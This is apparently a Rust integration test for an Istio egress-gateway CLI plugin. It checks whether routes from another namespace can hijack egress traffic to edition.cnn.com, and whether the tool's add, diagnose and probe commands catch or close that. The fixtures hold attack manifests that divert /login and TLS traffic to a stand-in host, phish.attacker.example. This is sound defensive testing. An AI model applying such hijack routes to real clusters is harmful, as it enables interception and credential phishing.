//! Routes of another namespace at the gateway: what they get, what `add` and `diagnose` say of them, and what a probe proves.
//!
//! The stranger's address is told apart by its ports: it sends what it gets to 8080 and 8443 of the origin.

use std::net::Ipv4Addr;

use anyhow::{Context as _, ensure};
use serde_json::Value;
use testbed::bed::User;

use super::super::harness::{Answer, BILLING, GATEWAYS, LIMIT, Mesh, SHOP, eventually};

const ADD: [&str; 4] = ["add", "edition.cnn.com", "-n", "shop"];
const HTTP: &str = "http://edition.cnn.com/";
const HTTPS: &str = "https://edition.cnn.com/";
const LOGIN: &str = "http://edition.cnn.com/login";

/// Where the stranger sends what it gets.
const PHISH: &str = "
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: phish, namespace: billing}
spec:
  hosts: [phish.attacker.example]
  exportTo: [istio-system]
  location: MESH_EXTERNAL
  resolution: STATIC
  endpoints: [{address: 198.51.100.10, ports: {http: 8080, tls: 8443}}]
  ports: [{number: 80, name: http, protocol: HTTP}, {number: 443, name: tls, protocol: TLS}]
";

/// A rule for one path.
const ROUTE: &str = "
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: hijack, namespace: billing}
spec:
  hosts: [edition.cnn.com]
  exportTo: [istio-system]
  gateways: [istio-system/kubectl-egress-istio-egressgateway]
  http:
  - match: [{uri: {prefix: /login}}]
    route: [{destination: {host: phish.attacker.example, port: {number: 80}}}]
";

/// A rule for the server name.
const TLS_ROUTE: &str = "
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: hijack, namespace: billing}
spec:
  hosts: [edition.cnn.com]
  exportTo: [istio-system]
  gateways: [istio-system/kubectl-egress-istio-egressgateway]
  tls:
  - match: [{port: 443, sniHosts: [edition.cnn.com]}]
    route: [{destination: {host: phish.attacker.example, port: {number: 443}}}]
";

/// With the gateway's rule as earlier versions wrote it, a younger rule for a path gets its requests.
pub(super) fn younger_control(mesh: &Mesh) -> anyhow::Result<()> {
    mesh.apply(&earlier_shape(&written(mesh, &[])?))?;
    eventually("calls to pass", LIMIT, || arrives_at(mesh, LOGIN, 80))?;
    attack(mesh, ROUTE)?;
    eventually("the stranger to get the path", LIMIT, || arrives_at(mesh, LOGIN, 8080))?;
    arrives_at(mesh, HTTP, 80)?;
    let found = diagnosed(mesh, 1)?;
    ensure!(found["level"] == "error", "{found:#}");
    // The same `add` again closes it; what kubectl wrote here belongs to kubectl.
    mesh.done(&[&ADD[..], &["--force-conflicts"]].concat())?;
    eventually("the stranger to lose the path", LIMIT, || arrives_at(mesh, LOGIN, 80))
}

pub(super) fn younger(mesh: &Mesh) -> anyhow::Result<()> {
    mesh.done(&ADD)?;
    attack(mesh, ROUTE)?;
    mesh.apply(&TLS_ROUTE.replace("name: hijack", "name: hijack-tls"))?;
    seen_by_gateways(mesh, "phish.attacker.example")?;
    for (url, port) in [(LOGIN, 80), (HTTP, 80), (HTTPS, 443)] {
        arrives_at(mesh, url, port)?;
    }
    let found = diagnosed(mesh, 0)?;
    ensure!(found["level"] == "warning", "{found:#}");
    // It does not keep `add` from its work either.
    mesh.plugin(&ADD)?.expect(0, &["virtualservice/hijack in namespace billing"])
}

pub(super) fn older(mesh: &Mesh) -> anyhow::Result<()> {
    let catch_all = ROUTE.replace("match: [{uri: {prefix: /login}}]\n    ", "");
    for route in [ROUTE, catch_all.as_str(), TLS_ROUTE] {
        attack(mesh, route)?;
        let words = ["virtualservice/hijack in namespace billing", "edition.cnn.com", "hint: "];
        mesh.refuses(User::Admin, &ADD, 7, &words)?;
        mesh.delete("virtualservice", "hijack", "billing")?;
    }
    // Who may not read other namespaces cannot be told, and a rule without conditions gets nothing all the same.
    mesh.done(&["add", "api.github.com", "-n", "billing"])?;
    attack(mesh, &catch_all)?;
    let add = ["add", "edition.cnn.com:80", "-n", "shop", "--settle", "1s"];
    mesh.plugin_as(User::ShopEditor, &add)?.expect(0, &["conflicts there cannot be found"])?;
    seen_by_gateways(mesh, "phish.attacker.example")?;
    arrives_at(mesh, LOGIN, 80)?;
    arrives_at(mesh, HTTP, 80)
}

/// The objects are there, the call is answered, and it left by somebody else's route.
pub(super) fn probed(mesh: &Mesh) -> anyhow::Result<()> {
    // Ages are whole seconds. Of two objects of one second istiod takes the one whose name comes first.
    let route = ROUTE.replace("prefix: /login", "regex: '/.*'").replace("name: hijack", "name: a-hijack");
    attack(mesh, &route)?;
    mesh.apply(&written(mesh, &[])?)?;
    eventually("the stranger to get the call", LIMIT, || arrives_at(mesh, HTTP, 8080))?;
    let probe = ["diagnose", HTTP, "-n", "shop", "--probe", "--yes", "-o", "json"];
    let ended = mesh.plugin(&probe)?;
    ensure!(ended.code == 1, "exit code {}: {}{}", ended.code, ended.stdout, ended.stderr);
    let report = ended.json()?;
    ensure!(report["probe"]["result"] == "diverted", "{:#}", report["probe"]);
    mesh.delete("virtualservice", "a-hijack", "billing")?;
    eventually("the call to arrive", LIMIT, || arrives_at(mesh, HTTP, 80))?;
    let report = mesh.done(&probe)?.json()?;
    ensure!(report["probe"]["result"] == "proven", "{:#}", report["probe"]);
    Ok(())
}

/// The Gateway of the documented layout is for its own namespace; as earlier versions wrote it, it was for all.
pub(super) fn documented(mesh: &Mesh) -> anyhow::Result<()> {
    let layout = ["--layout", "documented"];
    let bound = ROUTE.replace("istio-system/kubectl-egress-istio-egressgateway", "shop/edition-cnn-com");
    mesh.apply(&earlier_shape(&written(mesh, &layout)?))?;
    eventually("calls to pass", LIMIT, || arrives_at(mesh, LOGIN, 80))?;
    attack(mesh, &bound)?;
    eventually("the stranger to get the path", LIMIT, || arrives_at(mesh, LOGIN, 8080))?;
    mesh.done(&[&ADD[..], &layout, &["--force-conflicts"]].concat())?;
    eventually("the stranger to lose the path", LIMIT, || arrives_at(mesh, LOGIN, 80))?;
    arrives_at(mesh, HTTPS, 443)
}

/// Not an attack that is held: what `add`, `list -o wide` and `diagnose` say of an egress is true.
pub(super) fn open_to_the_mesh(mesh: &Mesh) -> anyhow::Result<()> {
    mesh.done(&ADD)?
        .expect(0, &["note: opened for shop; any pod of the mesh that reaches the gateway can use it"])?;
    let wide = mesh.done(&["list", "-n", "shop", "-o", "wide"])?.stdout;
    ensure!(wide.contains("TLS: any pod"), "{wide}");
    let told = mesh.done(&["diagnose", "edition.cnn.com", "-n", "shop", "-v", "1"])?.stdout;
    ensure!(told.split_whitespace().collect::<Vec<_>>().join(" ").contains("opened for shop;"), "{told}");
    for url in [HTTP, HTTPS] {
        mesh.expect_refused(BILLING, url)?;
    }
    let address =
        ["get", "service", "istio-egressgateway", "-n", "istio-system", "-o", "jsonpath={.spec.clusterIP}"];
    let address: Ipv4Addr = mesh.bed().kubectl(&address)?.trim().parse().context("the gateway's address")?;
    let answer = mesh.get_at(BILLING, HTTPS, Some(address))?;
    ensure!(matches!(answer, Answer::Origin(_)), "billing called {HTTPS} at the gateway: {answer:?}");
    Ok(())
}

/// What `add` would write.
fn written(mesh: &Mesh, more: &[&str]) -> anyhow::Result<String> {
    let dry_run = ["--dry-run=client", "-o", "yaml"];
    Ok(mesh.done(&[&ADD[..], more, &dry_run].concat())?.stdout)
}

/// The same as earlier versions wrote it: hosts for every namespace, and a rule without conditions at the gateway.
fn earlier_shape(yaml: &str) -> String {
    // Of the headers about the inside they removed the certificate's only.
    let kept = |line: &&str| {
        !["- x-envoy-", "- x-forwarded-for", "- x-forwarded-proto"]
            .iter()
            .any(|more| line.trim().starts_with(more))
    };
    let lines = yaml.lines().filter(kept);
    let mut lines = lines.map(|line| line.replace("./edition.cnn.com", "edition.cnn.com"));
    let mut found: Vec<String> = Vec::new();
    while let Some(line) = lines.next() {
        if !line.trim_start().starts_with("- authority:") {
            found.push(line);
            continue;
        }
        // The regex below it; what comes next begins the match.
        lines.next();
        let next = lines.next().unwrap_or_default();
        let rest = next.trim_start();
        let indent = next.len() - rest.len();
        found.push(format!("{}- {rest}", " ".repeat(indent.saturating_sub(2))));
    }
    found.join("\n") + "\n"
}

fn attack(mesh: &Mesh, route: &str) -> anyhow::Result<()> {
    mesh.apply(&format!("{PHISH}---{route}"))
}

/// The call passes a gateway and arrives at this port of the origin.
fn arrives_at(mesh: &Mesh, url: &str, port: u16) -> anyhow::Result<()> {
    let request = mesh.expect_via_gateway(SHOP, url)?;
    ensure!(request.port == port, "{url} arrived at port {}", request.port);
    Ok(())
}

/// The finding of this check.
fn diagnosed(mesh: &Mesh, code: i32) -> anyhow::Result<Value> {
    let ended = mesh.plugin(&["diagnose", "edition.cnn.com", "-n", "shop", "-o", "json"])?;
    ensure!(ended.code == code, "exit code {}: {}{}", ended.code, ended.stdout, ended.stderr);
    let report = ended.json()?;
    let mut findings = report["findings"].as_array().into_iter().flatten();
    let found = findings.find(|finding| finding["code"] == "EG085");
    found.cloned().with_context(|| format!("no EG085: {report:#}"))
}

/// Until the Envoys of all gateway pods have something that holds these words.
fn seen_by_gateways(mesh: &Mesh, words: &str) -> anyhow::Result<()> {
    for pod in GATEWAYS {
        eventually("the gateway to have the stranger's route", LIMIT, || {
            let mut curl = mesh.bed().exec_in_pod(pod.namespace, pod.name, "curl")?;
            let url = "http://127.0.0.1:15000/config_dump?resource=dynamic_route_configs";
            let output = curl.args(["--silent", "--max-time", "10", url]).output()?;
            ensure!(String::from_utf8_lossy(&output.stdout).contains(words), "{} lacks {words}", pod.name);
            Ok(())
        })?;
    }
    Ok(())
}
